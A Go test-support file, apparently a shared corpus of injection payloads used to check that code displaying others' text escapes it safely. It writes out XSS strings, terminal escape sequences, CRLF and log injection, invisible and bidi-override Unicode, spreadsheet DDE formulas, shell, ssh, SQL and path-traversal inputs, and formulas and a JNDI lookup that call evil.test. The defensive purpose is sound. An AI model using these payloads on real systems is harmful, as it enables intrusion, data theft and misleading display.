// Package payloads holds texts that try to be more than text where they end up,
// and what each place that shows them is held to. The tests of every package
// that shows what somebody else wrote share both, so that a new payload is tried
// everywhere.
//
// What may not be seen is written down here on its own, not taken from the
// product: a mistake there is not repeated here.
package payloads

import (
	"strings"
	"unicode"
)

// Payload is one text.
type Payload struct {
	Name string // what it aims at; each name once
	Text string // may be no UTF-8
}

// All returns every payload.
func All() []Payload {
	var all []Payload
	for _, group := range [][]Payload{markup(), terminals(), lines(), unseen(), formulas(), programs(), names()} {
		all = append(all, group...)
	}
	return all
}

// Texts returns the text of every payload.
func Texts() []string {
	var out []string
	for _, p := range All() {
		out = append(out, p.Text)
	}
	return out
}

// Plain are texts that nobody has a reason to refuse or to change, and that are
// as odd as people's names and words can be.
func Plain() []string {
	return []string{"Zoë Ampère", "日本 太郎", "O'Brien & Söhne", "שלום עולם", "สวัสดี", "नमस्ते", "50% of <b>checkout</b>"}
}

// markup is for pages: elements, attributes, addresses, styles, templates.
func markup() []Payload {
	return []Payload{
		{"script", `<script>alert(1)</script>`},
		{"script in capitals", `<ScRiPt src=//evil.test>`},
		{"end of an attribute", `"><img src=x onerror=alert(1)>`},
		{"end of an attribute, single", `'><svg/onload=alert(1)>`},
		{"new attribute", `x" autofocus onfocus="alert(1)`},
		{"new attribute, no quotes", `x onmouseover=alert(1) `},
		{"end of a quotation", `</blockquote><form action=//evil.test>`},
		{"end of a text box", `</textarea><script>alert(1)</script>`},
		{"end of a title", `</title><script>alert(1)</script>`},
		{"style", `<style>*{display:none}</style>`},
		{"style value", `red;background:url(//evil.test)`},
		{"style expression", `expression(alert(1))`},
		{"style import", `@import url(//evil.test/x.css);`},
		{"base", `<base href=//evil.test>`},
		{"refresh", `<meta http-equiv=refresh content=0>`},
		{"link", `<a href="data:text/html,x">sign in again</a>`},
		{"frame", `<iframe srcdoc="<script>alert(1)</script>">`},
		{"foreign elements", `<math><mtext><style><img src=x onerror=alert(1)>`},
		{"field", `<input name=shown value=x>`},
		{"comment", `<!-- `},
		{"character data", `]]><![CDATA[`},
		{"references", `&lt;b&gt; &amp; &#60;script&#62;`},
		{"script address", `javascript:alert(1)`},
		{"script address, dressed up", "jav\tascript:alert(1)"},
		{"data address", `data:text/html;base64,PHNjcmlwdD4=`},
		{"other host", `//evil.test/%2e%2e`},
		{"other host, backslash", `/\evil.test`},
		{"template", `{{.}} {{template "main"}}`},
		{"template of others", `${7*7} #{7*7} <%= 7*7 %> {%if 1%}`},
		{"lookup", `${jndi:ldap://evil.test/a}`},
		{"script text", "`-alert(1)-`'-alert(1)-'"},
		{"script escape", `\u003cscript\u003e`},
		{"script element in a string", `</script><script>alert(1)//`},
	}
}

// terminals is for whoever reads with one.
func terminals() []Payload {
	return []Payload{
		{"clear the screen", "\x1b[2J\x1b[H"},
		{"colour", "\x1b[32mapproved\x1b[0m"},
		{"hide the text", "\x1b[8mroot\x1b[28m"},
		{"link, OSC 8 with BEL", "\x1b]8;;https://evil.test\x07ok\x1b]8;;\x07"},
		{"link, OSC 8 with ST", "\x1b]8;;https://evil.test\x1b\\ok"},
		{"clipboard, OSC 52", "\x1b]52;c;cm0gLXJmIH4K\x07"},
		{"window title", "\x1b]0;root\x07"},
		{"device control", "\x1bP+q544e\x1b\\"},
		{"report", "\x1b[6n\x1b[c"},
		{"C1 CSI", "\u009b2J"},
		{"C1 OSC", "\u009d52;c;x\u009c"},
		{"C1 DCS", "\u0090x\u009c"},
		{"C1 CSI as a byte", "\x9b2J"},
		{"C1 inside of a letter", "\u06db2J \u069d52;c;x"},
		{"backspaces", "deny\b\b\b\bgrant"},
		{"delete", "a\x7fb"},
		{"bell", "a\ab"},
		{"other character set", "\x0e\x0f"},
		{"NUL", "a\x00b"},
	}
}

// lines is for what is read line by line, or value by value.
func lines() []Payload {
	return []Payload{
		{"line feed", "a\nsally: granted"},
		{"carriage return", "a\rsally: granted"},
		{"both", "a\r\nSet-Cookie: x=y\r\n\r\n<p>"},
		{"next line", "a\u0085b"},
		{"line separator", "a\u2028b"},
		{"paragraph separator", "a\u2029b"},
		{"vertical tab, form feed", "a\vb\fc"},
		{"log line", "a\n" + `{"level":"INFO","msg":"request","status":200}`},
		{"log value", `a","level":"ERROR","msg":"x`},
		{"log pair", `a level=ERROR msg="x"`},
		{"JSON", `","ok":true,"x":"`},
		{"JSON object", `{"v":"sally/v1","error":null}`},
		{"JSON escape", `\u0000\n\"`},
		{"YAML", "a: b\n- c"},
		{"YAML tag", `!!python/object/apply:os.system ["id"]`},
		{"YAML anchor", `&a [*a, *a]`},
		{"YAML end", "---\nroles: {}"},
		{"comment of a file", "# a"},
	}
}

// unseen is what a reader does not see as itself, or sees in another order.
func unseen() []Payload {
	return []Payload{
		{"right-to-left override", "\u202etxt.exe"},
		{"left-to-right override", "\u202da\u202c"},
		{"embedding", "\u202ba\u202ab\u202c"},
		{"isolates", "\u2066a\u2067b\u2068c\u2069"},
		{"marks of direction", "\u200fa\u200eb\u061cc"},
		{"zero width", "a\u200bb\u200cc\u200dd"},
		{"byte order mark", "\ufeffa"},
		{"word joiner", "a\u2060b\u2061c"},
		{"soft hyphen", "a\u00adb"},
		{"grapheme joiner", "a\u034fb"},
		{"tags", "a\U000e0061\U000e007f"},
		{"fillers", "a\u3164b\u115fc\uffa0d"},
		{"variation selectors", "a\ufe0fb\ufe00c"},
		{"more variation selectors", "a\U000e0100b\U000e01efc"},
		{"Mongolian selectors", "a\u180bb\u180ec"},
		{"private use", "a\ue000b\U0010fffdc"},
		{"no characters", "a\ufdd0b\uffffc"},
		{"annotation", "a\ufff9b\ufffac\ufffb"},
		{"musical", "a\U0001d173b"},
		{"stack of marks", "a" + strings.Repeat("\u0335\u0336\u0489", 20) + " b"},
		{"stack of high marks", "a" + strings.Repeat("\u0300\u0301", 40)},
		{"mark first", "\u0338a"},
		{"not NFC", "Zoe\u0308"},
		{"wide blanks", "a\u2003\u3000\u00a0b"},
	}
}

// formulas is for spreadsheets.
func formulas() []Payload {
	return []Payload{
		{"equals", `=1+1`},
		{"plus", `+1+1`},
		{"minus", `-1+1`},
		{"at", `@SUM(1+1)`},
		{"DDE", `=cmd|' /C calc'!A0`},
		{"DDE, plus", `+cmd|' /C calc'!A0`},
		{"DDE, minus", `-2+3+cmd|' /C calc'!A0`},
		{"DDE, at", `@SUM(cmd|' /C calc'!A0)`},
		{"DDE function", `=DDE("cmd";"/C calc";"x")`},
		{"web link", `=HYPERLINK("https://evil.test/?x="&A1,"ok")`},
		{"web call", `=WEBSERVICE("https://evil.test")`},
		{"web import", `=IMPORTXML("https://evil.test","//a")`},
		{"behind a tab", "\t=1+1"},
		{"behind a return", "\r=1+1"},
		{"behind a line feed", "\n=1+1"},
		{"behind blanks", "   @SUM(1)"},
		{"behind a no-break space", "\u00a0=1+1"},
		{"behind a wide blank", "\u3000=1+1"},
		{"behind a mark", "\ufeff=1+1"},
		{"behind zero width", "\u200b=1+1"},
		{"behind an override", "\u202e=1+1"},
		{"full-width equals", "＝1+1"},
		{"full-width plus", "＋1+1"},
		{"full-width minus", "－1+1"},
		{"full-width at", "＠SUM(1)"},
		{"small equals", "﹦1+1"},
		{"small plus", "﹢1"},
		{"small minus", "﹣1"},
		{"small at", "﹫a"},
		{"behind a semicolon", "x; =1+1;"},
		{"behind two", "x;;@SUM(1)"},
		{"behind a quote", `";=1+1;"`},
		{"behind a comma", `",=1+1,"`},
		{"in quotes", `"=1+1"`},
		{"in two quotes", `""=1+1`},
		{"behind a row", "a\"\r\n=1+1,b"},
		{"commas and quotes", `a,b;"c""d"`},
		{"a bar", `a|b`},
		{"an apostrophe", `'=1+1`},
	}
}

// programs is for what others run or look up: shells, ssh, databases, formats, files.
func programs() []Payload {
	return []Payload{
		{"format string", `%s%s%s%n%x%d`},
		{"format string of Go", `%!d(string=x)%[1]v%*d`},
		{"shell, substitution", `$(reboot)`},
		{"shell, backquotes", "`reboot`"},
		{"shell, list", `a; reboot & reboot | reboot && x`},
		{"shell, quote", `a'; reboot; '`},
		{"shell, variable", `$HOME ${IFS}`},
		{"shell, history", `!!`},
		{"ssh, option", `-oProxyCommand=reboot`},
		{"ssh, options", `-F/tmp/x -o PermitLocalCommand=yes`},
		{"ssh_config", "a\nHost *\n  ProxyCommand reboot"},
		{"ssh, token", `%h%u%C%%d`},
		{"authorized_keys", `command="reboot" ssh-ed25519 AAAA`},
		{"known_hosts", "@cert-authority * ssh-ed25519 AAAA"},
		{"principals", `root,admin@*`},
		{"key ID", `a;c=AAAA;e=9999999999`},
		{"key ID, person", `a;p=bbbb;r=cccc`},
		{"SQL", `'; DROP TABLE leaf; --`},
		{"SQL, or", `" OR 1=1 --`},
		{"SQL, like", `%_\%`},
		{"path", `../../../../etc/passwd`},
		{"path, encoded", `..%2f..%2f%00`},
		{"path, absolute", `/etc/passwd`},
		{"path, Windows", `..\..\C:\con`},
		{"LDAP", `*)(uid=*))(|(uid=*`},
		{"query", `a&state=x&code=y#z`},
		{"address", `alice@acme.test <mallory@evil.test>`},
		{"mail header", "a\r\nBcc: mallory@evil.test"},
		{"no UTF-8", "a\xff\xfeb"},
		{"half a character", "\xed\xa0\x80"},
		{"overlong", "\xc0\xae\xc0\xaf"},
		{"long", strings.Repeat("word ", 300)},
		{"long word", strings.Repeat("w", 950)},
	}
}

// names is what somebody else could be taken for.
func names() []Payload {
	return []Payload{
		{"look-alike", "Аlice Amрère"},
		{"full-width name", "Ａｌｉｃｅ"},
		{"another's account", "Alice (alice@acme.test)"},
		{"an answer", "Bob. approved by Security"},
		{"nobody", "null"},
		{"a blank", " "},
		{"spelled out already", `a\x1b[2J \u202e ⟨U+202E⟩`},
	}
}

// unseenRunes are the characters that a reader does not see as themselves:
// Unicode 15 categories Cc, Cf, Co, Zl, Zp, noncharacters, and the code points
// that are ignorable by default (DerivedCoreProperties.txt).
var unseenRunes = &unicode.RangeTable{
	R16: []unicode.Range16{
		{0x0000, 0x001f, 1},
		{0x007f, 0x009f, 1},
		{0x00ad, 0x00ad, 1},
		{0x034f, 0x034f, 1},
		{0x0600, 0x0605, 1},
		{0x061c, 0x061c, 1},
		{0x06dd, 0x06dd, 1},
		{0x070f, 0x070f, 1},
		{0x115f, 0x1160, 1},
		{0x17b4, 0x17b5, 1},
		{0x180b, 0x180f, 1},
		{0x200b, 0x200f, 1},
		{0x2028, 0x202e, 1},
		{0x2060, 0x206f, 1},
		{0x3164, 0x3164, 1},
		{0xe000, 0xf8ff, 1},
		{0xfdd0, 0xfdef, 1},
		{0xfe00, 0xfe0f, 1},
		{0xfeff, 0xfeff, 1},
		{0xffa0, 0xffa0, 1},
		{0xfff0, 0xfffb, 1},
		{0xfffe, 0xffff, 1},
	},
	R32: []unicode.Range32{
		{0x1bca0, 0x1bca3, 1}, {0x1d173, 0x1d17a, 1}, {0xe0000, 0xe0fff, 1}, {0xf0000, 0x10ffff, 1},
	},
}

// Unseen reports whether a reader does not see r as itself.
func Unseen(r rune) bool {
	return unicode.Is(unseenRunes, r) || r&0xfffe == 0xfffe // the last two of a plane are no characters
}
